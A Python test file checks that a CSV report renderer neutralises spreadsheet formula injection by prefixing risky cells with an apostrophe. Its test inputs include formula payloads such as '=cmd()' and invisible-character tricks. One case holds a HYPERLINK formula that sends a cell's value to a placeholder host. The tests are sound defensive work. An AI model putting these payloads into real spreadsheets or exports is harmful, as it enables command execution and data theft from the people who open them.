"""CSV report: columns, and protection against spreadsheets."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, strategies as st

from wxtcb.api.environment import ShareLink
from wxtcb.provision import Outcome, Problem, Report, TenantReport
from wxtcb.provision.report import RunInfo
from wxtcb.provision.report_csv import _NEEDS_APOSTROPHE, render_csv

RUN_INFO = RunInfo(base_url="https://api.weixin.qq.com", component_appid="wx1", namespace="shop")
CREATED_AT = datetime(2026, 7, 1, 10, 0, 5, tzinfo=UTC)
LINKS = tuple(ShareLink(appid=f"wx{number}", url=f"https://mp.weixin.qq.com/{number}") for number in (1, 2))
CHANGED = ("123456789012", "007", "1e5", "12.5E+3", "3/4", "1.50", "12:30", "2026-11-22", "TRUE", "false")
CHANGED += ("MAR1", "1-Mar", "sept 2026", "March 5, 2026", "22 nov 26")
UNCHANGED = ("12345678901", "1234567890123a", "a=b", "一=二", "'=1")
UNCHANGED += ("0", "7", "007a", "1e5x", "e5", "mary", "market 3a", "t1")
BLANKED = ("\u200b=1", "\ufeff+1", "\u00ad-1", "\x00@1", " \u2060\u202e=1")
FORMULAS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n")


def entry(**fields: Any) -> TenantReport:
    """Return a tenant report."""
    return TenantReport(**{"tenant": "商户", "alias": "a", "outcome": Outcome.DONE, **fields})


def read(*tenants: TenantReport, **fields: Any) -> list[dict[str, str]]:
    """Render a report of *tenants* and read its rows."""
    text = render_csv(Report(tenants, 1.0, **fields))
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_row_has_result_and_run_info() -> None:
    """Several values are separated by `;`, and each link has a line of its own."""
    done = entry(
        outcome=Outcome.UNCONFIRMED,
        env="a-1",
        tranid="77",
        done=("environment", "ready"),
        services=("api", "web"),
        unconfirmed=("web",),
        links=LINKS,
    )
    assert read(done, run_info=RUN_INFO, created_at=CREATED_AT) == [
        {
            "tenant": "商户",
            "alias": "a",
            "outcome": "done (unconfirmed)",
            "env": "a-1",
            "tranid": "77",
            "done": "environment;ready",
            "services": "api;web",
            "unconfirmed": "web",
            "links": "wx1 https://mp.weixin.qq.com/1\nwx2 https://mp.weixin.qq.com/2",
            "existing": "",
            "summary": "web existed after an ambiguous request",
            "created_at": "2026-07-01T18:00:05+08:00",
            "base_url": "https://api.weixin.qq.com",
            "component_appid": "wx1",
            "namespace": "shop",
        }
    ]


def test_row_has_reason_of_failure() -> None:
    """It has the existing environments and the summary; without run information its columns are empty."""
    blocked = entry(outcome=Outcome.CONFLICT, existing=("x-1", "x-2"), reason="taken")
    failed = entry(outcome=Outcome.FAILED, problems=(Problem(step="share", appid="wx1", message="no"),))
    first, second = read(blocked, failed)
    assert (first["existing"], first["summary"], second["summary"]) == ("x-1;x-2", "taken", "share wx1: no")
    assert {first[name] for name in ("env", "tranid", "base_url", "component_appid", "namespace")} == {""}


def test_metadata_has_a_column_for_each_name() -> None:
    """A tenant without the value has an empty cell."""
    first, second = read(entry(metadata={"dns": "a.example"}), entry(metadata={"mail": "on"}))
    assert (first["metadata dns"], first["metadata mail"]) == ("a.example", "")
    assert (second["metadata dns"], second["metadata mail"]) == ("", "on")


def test_report_without_tenants_is_a_header() -> None:
    """The columns are present."""
    assert render_csv(Report((), 0.0)).startswith('"tenant","alias",')
    assert read() == []


@pytest.mark.parametrize("name", [f"{sign}cmd()" for sign in FORMULAS] + [" =1", "\u3000+1", *BLANKED, *CHANGED])
def test_formula_number_and_date_begin_with_an_apostrophe(name: str) -> None:
    """This holds in every column."""
    tenant = entry(tenant=name, alias=name, env=name, services=(name,), metadata={"m": name})
    assert [read(tenant)[0][column] for column in ("tenant", "alias", "env", "services", "metadata m")] == [
        f"'{name}"
    ] * 5


@pytest.mark.parametrize("name", UNCHANGED)
def test_plain_text_is_unchanged(name: str) -> None:
    """Only the beginning of a cell makes it a formula."""
    assert read(entry(tenant=name))[0]["tenant"] == name


def test_long_cell_is_truncated() -> None:
    """It ends with an ellipsis."""
    tenant = entry(outcome=Outcome.CONFLICT, reason="x" * 32_768)
    assert read(tenant)[0]["summary"] == "x" * 32_766 + "…"
    assert read(entry(outcome=Outcome.CONFLICT, reason="x" * 32_767))[0]["summary"] == "x" * 32_767


@pytest.mark.parametrize(
    ("reason", "cell"),
    [
        ('-1 busy;=HYPERLINK("http://x/?"&A2;"open")', """'-1 busy;'=HYPERLINK("http://x/?"&A2;"open")"""),
        ("a, +1|@x\t-1", "a,' +1|'@x\t'-1"),
        ("a\r\n=1", "a\r\n'=1"),
        ('a;"=1"', """a;'"=1\""""),
        ("a;\u200b\ufeff=1", "a;'\u200b\ufeff=1"),
        ("a;\uff1b\uff1d1;\uff1d1", "a;\uff1b\uff1d1;'\uff1d1"),
        ("a; b=1,c", "a; b=1,c"),
    ],
)
def test_formula_behind_a_separator_is_no_formula(reason: str, cell: str) -> None:
    """Where Excel separates columns by another sign, it splits a cell there."""
    assert read(entry(outcome=Outcome.CONFLICT, reason=reason))[0]["summary"] == cell


def test_many_separators_take_linear_time() -> None:
    """A cell of blanks between separators is searched once."""
    reason = ("\t " * 200_000) + ("; " * 200_000)
    assert len(read(entry(outcome=Outcome.CONFLICT, reason=reason))[0]["summary"]) == 32_767


TEXTS = st.text(st.sampled_from(";,|\t\r\n=+-@\" '\u200b\uff1dax"), max_size=30) | st.text(max_size=40)


@given(TEXTS, TEXTS)
def test_any_text_round_trips(name: str, reason: str) -> None:
    """Quotes, separators and line breaks survive; only apostrophes are added."""
    (row,) = read(entry(tenant=name, outcome=Outcome.CONFLICT, reason=reason))
    for value, cell in ((name, row["tenant"]), (reason, row["summary"])):
        assert cell.replace("'", "") == value.replace("'", "")


@given(TEXTS, TEXTS, st.sampled_from(";,|\t"))
def test_no_cell_is_a_formula(name: str, reason: str, separator: str) -> None:
    """This holds whatever sign a spreadsheet separates columns by."""
    text = render_csv(
        Report((entry(tenant=name, outcome=Outcome.CONFLICT, reason=reason, services=(name, reason)),), 1)
    )
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in row:
            visible = [each for each in cell if not each.isspace() and unicodedata.category(each) not in ("Cc", "Cf")]
            assert not "".join(visible[:1]).startswith(FORMULAS), cell


def test_every_invisible_character_counts_as_a_blank() -> None:
    """The pattern has all control and format characters and blanks of Unicode."""
    for number in range(sys.maxunicode + 1):
        letter = chr(number)
        if letter.isspace() or unicodedata.category(letter) in ("Cc", "Cf"):
            assert _NEEDS_APOSTROPHE.match(f"{letter}=1"), hex(number)
